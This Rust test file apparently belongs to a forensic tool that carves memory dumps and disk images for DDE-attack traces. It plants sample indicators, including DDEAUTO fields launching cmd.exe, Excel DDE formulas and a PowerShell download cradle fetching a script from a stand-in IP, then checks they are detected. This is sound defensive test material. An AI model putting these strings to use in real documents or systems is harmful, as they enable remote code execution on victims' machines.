//! Memory dumps (issue 7): the generated dump's planted strings come out with their exact
//! offsets, strings and counts (ASCII and UTF-16LE, across the carver's piece borders), near
//! misses do not, and the event-log chunks planted in it give exactly the records they hold,
//! with the event-log findings of the logs they were copied from.

use std::path::Path;

use ddesweep_testgen::memdump::{self, MemoryDump};
use serde_json::Value;

/// Scans the dump at `path` in-process with 1 MiB carving pieces (so planted things straddle
/// piece borders); returns the timeline rows and the manifest.
fn carve(path: &Path, acquired_at: Option<&str>) -> (Vec<Value>, Value) {
    let out = tempfile::tempdir().unwrap();
    let profile = ddesweep::profile::load("default").unwrap();
    let acquired = acquired_at.map(|text| {
        let parsed = chrono::DateTime::parse_from_rfc3339(text).unwrap();
        ddesweep::time::Timestamp::from_unix_micros(parsed.timestamp_micros()).unwrap()
    });
    let settings =
        ddesweep::pipeline::Settings::new(vec![path.to_path_buf()], out.path().join("o"), profile)
            .progress(false)
            .memory(true)
            .acquired_at(acquired)
            .carve_chunk(1 << 20);
    let summary = ddesweep::pipeline::run(&settings).unwrap();
    let rows = std::fs::read_to_string(&summary.timeline)
        .unwrap()
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    let manifest = serde_json::from_slice(&std::fs::read(&summary.manifest).unwrap()).unwrap();
    (rows, manifest)
}

fn write_dump(dir: &Path) -> (MemoryDump, std::path::PathBuf) {
    let dump = memdump::memory_dump();
    let path = dir.join("host-mem.raw");
    std::fs::write(&path, &dump.bytes).unwrap();
    (dump, path)
}

/// The string rows: (rule, encoding, text, count, offsets).
fn string_rows(rows: &[Value]) -> Vec<(String, String, String, u64, String)> {
    rows.iter()
        .filter(|r| r["data_type"] == "ddesweep:memory:string")
        .map(|r| {
            (
                r["rule_id"].as_str().unwrap().to_owned(),
                r["text_encoding"].as_str().unwrap().to_owned(),
                r["carved_text"].as_str().unwrap().to_owned(),
                r["hit_count"].as_u64().unwrap(),
                r["hit_offsets"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

/// Where `indicator` starts inside the planted `text` at `offset` (UTF-16LE: two bytes a
/// character).
fn hit_offset(dump: &MemoryDump, text: &str, indicator: &str) -> u64 {
    let planted = dump.strings.iter().find(|p| p.text == text).unwrap();
    let at = text
        .to_ascii_lowercase()
        .find(&indicator.to_ascii_lowercase())
        .unwrap() as u64;
    planted.offset + if planted.utf16 { 2 * at } else { at }
}

#[test]
fn planted_strings_come_out_with_their_offsets() {
    let dir = tempfile::tempdir().unwrap();
    let (dump, path) = write_dump(dir.path());
    let (rows, manifest) = carve(&path, Some("2024-03-12T11:00:00Z"));
    let strings = string_rows(&rows);
    let row = |rule: &str, encoding: &str, text: &str, offsets: &[u64]| {
        (
            rule.to_owned(),
            encoding.to_owned(),
            text.to_owned(),
            offsets.len() as u64,
            offsets
                .iter()
                .map(u64::to_string)
                .collect::<Vec<_>>()
                .join(","),
        )
    };
    let ddeauto = r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe""#;
    let link =
        r#"<ddeLink xmlns="x" ddeService="cmd" ddeTopic="/c mshta http://198.51.100.23/pa.hta">"#;
    let msexcel = r"=MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc.exe'!A0";
    let cmd_formula = r"=cmd|'/c powershell -nop -w hidden'!A0";
    let word = r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\alice\Downloads\Invoice_2291.docx""#;
    let cradle = r"powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.23/inv.ps1')";
    let eqnedt =
        r"C:\Program Files (x86)\Common Files\Microsoft Shared\EQUATION\EQNEDT32.EXE -Embedding";
    let expected = [
        row(
            "ddesweep.memory.ddeauto_field",
            "ascii",
            ddeauto,
            &dump.offsets_of(ddeauto),
        ),
        // Starts six bytes before the 2 MiB border and ends after it.
        row(
            "ddesweep.memory.dde_link",
            "utf-16le",
            link,
            &[hit_offset(&dump, link, "ddeService=")],
        ),
        row(
            "ddesweep.memory.msexcel_dde",
            "ascii",
            msexcel,
            &[hit_offset(&dump, msexcel, "MSEXCEL|")],
        ),
        row(
            "ddesweep.memory.dde_formula",
            "ascii",
            msexcel,
            &[hit_offset(&dump, msexcel, "|'")],
        ),
        row(
            "ddesweep.memory.dde_formula",
            "utf-16le",
            cmd_formula,
            &[hit_offset(&dump, cmd_formula, "|'")],
        ),
        row(
            "ddesweep.memory.office_command_line",
            "utf-16le",
            word,
            &[hit_offset(&dump, word, "WINWORD.EXE")],
        ),
        row(
            "ddesweep.memory.download_marker",
            "ascii",
            cradle,
            &[hit_offset(&dump, cradle, "IEX(New-Object")],
        ),
        row(
            "ddesweep.memory.download_marker",
            "ascii",
            cradle,
            &[hit_offset(&dump, cradle, "DownloadString(")],
        ),
        row(
            "ddesweep.memory.equation_editor",
            "utf-16le",
            eqnedt,
            &[hit_offset(&dump, eqnedt, "EQNEDT32")],
        ),
    ];
    assert!(hit_offset(&dump, link, "ddeService=") + 22 > 0x20_0000);
    assert!(hit_offset(&dump, link, "ddeService=") < 0x20_0000);
    // Outside the planted event-log chunks, exactly the planted strings come out: the near
    // misses (an Office image with no document, a pipe quote with no '!, DDE with no program,
    // look-alike names, a cut-short word) do not.
    let in_chunk = |offset: u64| {
        dump.chunks
            .iter()
            .any(|c| offset >= c.offset && offset < c.offset + c.len as u64)
    };
    let mut outside: Vec<_> = strings
        .iter()
        .filter(|r| r.4.split(',').all(|o| !in_chunk(o.parse().unwrap())))
        .cloned()
        .collect();
    outside.sort();
    let mut expected = expected.to_vec();
    expected.sort();
    assert_eq!(outside, expected);
    // Every string row is placed at the acquisition time, and says so.
    for row in rows
        .iter()
        .filter(|r| r["data_type"] == "ddesweep:memory:string")
    {
        assert_eq!(row["datetime"], "2024-03-12T11:00:00.000000+00:00");
        assert_eq!(row["timestamp_desc"], "Acquisition Time");
        assert!(row["tag"].as_array().unwrap().contains(&"carved".into()));
    }
    let carve = &manifest["artifacts"][0]["carve"];
    assert_eq!(carve["bytes"], memdump::DUMP_SIZE);
    assert_eq!(manifest["artifacts"][0]["kind"], "memory");
}

/// Records wholly inside the first `len` bytes of a chunk (walking the record headers).
fn records_in(chunk: &[u8], len: usize) -> u64 {
    let mut at = 512;
    let mut count = 0;
    while at + 8 <= len && chunk[at..at + 4] == *b"**\0\0" {
        let size = u32::from_le_bytes(chunk[at + 4..at + 8].try_into().unwrap()) as usize;
        if size < 24 || at + size > len {
            break;
        }
        count += 1;
        at += size;
    }
    count
}

#[test]
fn carved_event_log_chunks_give_the_records_embedded() {
    let dir = tempfile::tempdir().unwrap();
    let (dump, path) = write_dump(dir.path());
    let (rows, manifest) = carve(&path, None);
    // Each distinct chunk is read once: the copy at 0x180000 is a duplicate.
    let mut expected = 0;
    let mut seen = std::collections::BTreeSet::new();
    for chunk in &dump.chunks {
        if !seen.insert(chunk.source) {
            continue;
        }
        let start = chunk.offset as usize;
        expected += records_in(&dump.bytes[start..start + chunk.len], chunk.len);
    }
    let carve = &manifest["artifacts"][0]["carve"];
    assert_eq!(carve["evtx_chunks"], 5);
    assert_eq!(carve["evtx_chunks_duplicate"], 1);
    assert_eq!(carve["evtx_records"], expected);
    assert!(expected > 20, "{expected}");
    // The record the end of the dump cuts through is dropped, not read with zeros.
    assert_eq!(carve["evtx_records_failed"], 1);

    // The findings of each carved chunk are those of the log it was copied from, at the
    // chunk's offset, tagged carved.
    for (source, offset) in [
        ("evtx/positive/sysmon-1-office-child.evtx", 0x000F_C000u64),
        ("evtx/positive/security-4688-v2.evtx", 0x0014_0000),
        ("evtx/positive/sysmon-13-dde-registry.evtx", 0x0022_0000),
    ] {
        let log = crate::util::scan(&[&crate::util::testdata(source)], &[]);
        let mut from_log: Vec<(String, u64, String)> = log
            .rows
            .iter()
            .filter(|r| r["severity"] != "info")
            .map(|r| {
                (
                    r["rule_id"].as_str().unwrap().to_owned(),
                    r["record_number"].as_u64().unwrap(),
                    r["message"].as_str().unwrap().to_owned(),
                )
            })
            .collect();
        let mut carved: Vec<(String, u64, String)> = rows
            .iter()
            .filter(|r| r["offset"] == offset && r["data_type"] != "ddesweep:memory:string")
            .filter(|r| r["severity"] != "info")
            .map(|r| {
                assert!(r["tag"].as_array().unwrap().contains(&"carved".into()));
                (
                    r["rule_id"].as_str().unwrap().to_owned(),
                    r["record_number"].as_u64().unwrap(),
                    r["message"].as_str().unwrap().to_owned(),
                )
            })
            .collect();
        from_log.sort();
        carved.sort();
        assert!(!carved.is_empty(), "{source}");
        assert_eq!(carved, from_log, "{source}");
    }
    // Without --acquired-at, strings are placed at the dump's modification time.
    let modified = std::fs::metadata(&path).unwrap().modified().unwrap();
    let micros = modified
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_micros() as i64;
    let string = rows
        .iter()
        .find(|r| r["data_type"] == "ddesweep:memory:string")
        .unwrap();
    assert_eq!(string["timestamp"], micros);
    assert_eq!(
        string["timestamp_desc"],
        "Acquisition Time (dump file modified)"
    );
}

#[test]
fn unallocated_clusters_are_carved_with_their_volume() {
    // A DDEAUTO field and an event-log chunk written into free clusters of the bare image.
    let mut image = std::fs::read(crate::util::testdata("images/ntfs-bare.raw")).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let clean = dir.path().join("clean.raw");
    std::fs::write(&clean, &image).unwrap();
    let item = ddesweep::evidence::open(
        0,
        &clean,
        ddesweep::evidence::OpenOptions {
            memory: false,
            unallocated: true,
        },
    )
    .unwrap();
    let free = item
        .entries
        .iter()
        .find_map(|e| e.unallocated.as_ref())
        .unwrap()
        .free_ranges()
        .unwrap()
        .collect::<Vec<_>>();
    let (start, len) = *free.iter().max_by_key(|(_, len)| *len).unwrap();
    assert!(len >= 0x20000, "{free:?}");
    let field = br#"DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe""#;
    let field_at = start as usize + 0x100;
    image[field_at..field_at + field.len()].copy_from_slice(field);
    let log = crate::util::testdata("evtx/positive/sysmon-1-office-child.evtx");
    let log = std::fs::read(log).unwrap();
    let chunk_at = start as usize + 0x10000;
    image[chunk_at..chunk_at + 65_536].copy_from_slice(&log[4096..4096 + 65_536]);
    let planted = dir.path().join("planted.raw");
    std::fs::write(&planted, &image).unwrap();

    let run = crate::util::scan(
        &[&planted],
        &[
            "--carve-unallocated",
            "--acquired-at",
            "2024-03-12T11:00:00Z",
        ],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let unallocated = run.artifact("$Unallocated");
    assert_eq!(unallocated["status"], "analyzed");
    assert_eq!(unallocated["carve"]["evtx_chunks"], 1);
    assert_eq!(unallocated["carve"]["evtx_records"], 7);
    let rows: Vec<&Value> = run
        .rows
        .iter()
        .filter(|r| r["source_path"] == "$Unallocated")
        .collect();
    let ddeauto = rows
        .iter()
        .find(|r| r["rule_id"] == "ddesweep.memory.ddeauto_field")
        .unwrap();
    assert_eq!(ddeauto["offset"], field_at as u64);
    assert_eq!(ddeauto["volume_offset"], 0);
    assert_eq!(ddeauto["datetime"], "2024-03-12T11:00:00.000000+00:00");
    let child = rows
        .iter()
        .find(|r| r["rule_id"] == "ddesweep.eventlog.office_child" && r["record_number"] == 2)
        .unwrap();
    assert_eq!(child["offset"], chunk_at as u64);
    // Allocated files are not unallocated space: the invoice's DDEAUTO field (a live file)
    // gives no carved row.
    assert!(rows.iter().all(|r| r["offset"].as_u64().unwrap() >= start));
    // Without the flag there is no such entry.
    let plain = crate::util::scan(&[&planted], &[]);
    assert!(
        plain.manifest["artifacts"]
            .as_array()
            .unwrap()
            .iter()
            .all(|a| a["path"] != "$Unallocated")
    );
}

#[test]
fn memory_is_recognised_or_named() {
    let dir = tempfile::tempdir().unwrap();
    let dump = memdump::memory_dump();
    // A raw dump is only memory when the responder says so.
    let raw = dir.path().join("host.raw");
    std::fs::write(&raw, &dump.bytes).unwrap();
    let unnamed = crate::util::scan(&[&raw], &[]);
    assert_eq!(unnamed.artifact("host.raw")["kind"], "unknown");
    let named = crate::util::scan(&[&raw], &["--memory"]);
    assert_eq!(named.code, 0, "{}", named.stderr);
    assert_eq!(named.manifest["evidence"][0]["kind"], "memory dump");
    assert_eq!(named.artifact("host.raw")["kind"], "memory");
    // A paging file in a triage folder, and a crash dump by its signature, are carved as they
    // are.
    let triage = dir.path().join("triage");
    std::fs::create_dir_all(&triage).unwrap();
    std::fs::write(triage.join("pagefile.sys"), &dump.bytes).unwrap();
    let mut crash = b"PAGEDU64".to_vec();
    crash.extend_from_slice(&dump.bytes[8..]);
    std::fs::write(triage.join("MEMORY.DMP"), &crash).unwrap();
    let folder = crate::util::scan(&[&triage], &[]);
    for name in ["pagefile.sys", "MEMORY.DMP"] {
        let artifact = folder.artifact(name);
        assert_eq!(artifact["kind"], "memory", "{name}");
        assert_eq!(artifact["carve"]["evtx_records"], 27, "{name}");
    }
    assert!(folder.rows.iter().any(|r| {
        r["source_path"] == "pagefile.sys"
            && r["rule_id"] == "ddesweep.memory.ddeauto_field"
            && r["message"]
                .as_str()
                .unwrap()
                .contains("in paging file pagefile.sys")
    }));
}

/// Carved rows use only the timeline's columns, and Timesketch's importers accept them
/// (skipped when the checker is not beside the repository).
#[test]
fn carved_rows_fit_the_timeline_schema() {
    let dir = tempfile::tempdir().unwrap();
    let (_, path) = write_dump(dir.path());
    let run = crate::util::scan(&[&path], &["--memory"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    for row in &run.rows {
        for key in row.as_object().unwrap().keys() {
            assert!(
                ddesweep::output::timesketch::COLUMNS.contains(&key.as_str()),
                "unexpected key {key}"
            );
        }
        assert!(
            row["tag"].as_array().unwrap().contains(&"carved".into()),
            "{row}"
        );
    }
    let checker = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/tools/timesketch-check");
    if !checker.exists() {
        eprintln!("skipped: {} not found", checker.display());
        return;
    }
    let output = std::process::Command::new("bash")
        .arg(&checker)
        .arg(run.out.path().join("timeline.jsonl"))
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    let rows = run.rows.len();
    assert!(
        stdout.contains(&format!("Timesketch accepted {rows} of {rows} rows")),
        "{stdout}{}",
        String::from_utf8_lossy(&output.stderr)
    );
}

/// Chunk signatures with garbage, or nothing, behind them cost nothing but a count.
#[test]
fn false_chunk_signatures_are_counted_not_fatal() {
    let mut bytes = vec![0u8; 1 << 20];
    let mut state = 0x1234_5678_9ABC_DEF1u64;
    for (i, byte) in bytes.iter_mut().enumerate().skip(4096) {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        *byte = (state >> (i % 8)) as u8;
    }
    let len = bytes.len();
    for at in [100, 70_000, len - 600, len - 8] {
        bytes[at..at + 8].copy_from_slice(b"ElfChnk\0");
    }
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("garbage.raw");
    std::fs::write(&path, &bytes).unwrap();
    let (_, manifest) = carve(&path, None);
    let artifact = &manifest["artifacts"][0];
    assert_eq!(artifact["status"], "analyzed", "{artifact}");
    assert_eq!(artifact["carve"]["evtx_chunks"], 4);
    assert_eq!(artifact["carve"]["evtx_records"], 0);
    assert_eq!(artifact["carve"]["evtx_chunks_unreadable"], 4, "{artifact}");
}

/// Floods (a string or a chunk signature repeated through a whole dump) cost bounded memory and
/// time: a few rows with exact counts, signatures that start no chunk counted.
#[test]
fn floods_cost_bounded_work() {
    let dir = tempfile::tempdir().unwrap();
    let quotes = dir.path().join("quotes.raw");
    std::fs::write(&quotes, b"=x|'calc'!A0 ".repeat(300_000)).unwrap();
    let (rows, manifest) = carve(&quotes, None);
    let carve_account = &manifest["artifacts"][0]["carve"];
    assert_eq!(carve_account["hits"], 300_000);
    assert_eq!(carve_account["hits_kept"], 300_000);
    let strings: Vec<&Value> = rows
        .iter()
        .filter(|r| r["data_type"] == "ddesweep:memory:string")
        .collect();
    // One string per alignment of the repeated text within the kept window, and the ends.
    assert!(strings.len() <= 100, "{}", strings.len());
    let total: u64 = strings
        .iter()
        .map(|r| r["hit_count"].as_u64().unwrap())
        .sum();
    assert_eq!(total, 300_000);
    assert!(
        strings
            .iter()
            .all(|r| r["hit_offsets"].as_str().unwrap().split(',').count() <= 1000)
    );

    let signatures = dir.path().join("signatures.raw");
    std::fs::write(&signatures, b"ElfChnk\0".repeat(500_000)).unwrap();
    let (_, manifest) = carve(&signatures, None);
    let carve_account = &manifest["artifacts"][0]["carve"];
    assert_eq!(carve_account["evtx_chunks"], 500_000);
    assert_eq!(carve_account["evtx_chunks_unreadable"], 500_000);
    assert_eq!(carve_account["evtx_records"], 0);
}

/// A paging file inside a disk image is carved where it lies, run by run, with offsets from the
/// start of the file. (The fixture's 16 KiB `~WRL0001.tmp` is renamed `pagefile.sys` in its MFT
/// record and its folder's index: the names have the same length.)
#[test]
fn paging_files_in_images_are_carved_in_place() {
    let mut image = std::fs::read(crate::util::testdata("images/ntfs-bare.raw")).unwrap();
    let old: Vec<u8> = "~WRL0001.tmp"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let new: Vec<u8> = "pagefile.sys"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let mut renamed = 0;
    let mut at = 0;
    while let Some(found) = image[at..].windows(old.len()).position(|w| w == old) {
        let start = at + found;
        image[start..start + new.len()].copy_from_slice(&new);
        renamed += 1;
        at = start + 1;
    }
    assert!(renamed >= 2, "{renamed}");
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("paging.raw");
    std::fs::write(&path, &image).unwrap();
    let item = ddesweep::evidence::open(0, &path, Default::default()).unwrap();
    let entry = item
        .entries
        .iter()
        .find(|e| e.source_path == "Users/alice/AppData/Local/Temp/pagefile.sys")
        .unwrap();
    let runs = entry.image.as_ref().unwrap().plain_runs().unwrap().unwrap();
    let (Some(position), _) = runs[0] else {
        panic!("{runs:?}")
    };
    // A DDEAUTO field 100 bytes into the file.
    let field = br#"DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe""#;
    let at = position as usize + 100;
    image[at - 1] = 0;
    image[at..at + field.len()].copy_from_slice(field);
    image[at + field.len()] = 0;
    std::fs::write(&path, &image).unwrap();

    let run = crate::util::scan(&[&path], &["--acquired-at", "2024-03-12T11:00:00Z"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let paging = run.artifact("pagefile.sys");
    assert_eq!(paging["kind"], "memory");
    assert_eq!(paging["carve"]["bytes"], 16_384);
    let row = run
        .rows
        .iter()
        .find(|r| r["rule_id"] == "ddesweep.memory.ddeauto_field")
        .unwrap();
    assert_eq!(row["offset"], 100);
    assert_eq!(row["mft_record"], 100);
    assert_eq!(row["carved_text"], std::str::from_utf8(field).unwrap());
    assert!(
        row["message"]
            .as_str()
            .unwrap()
            .contains("in paging file Users/alice/AppData/Local/Temp/pagefile.sys")
    );
}
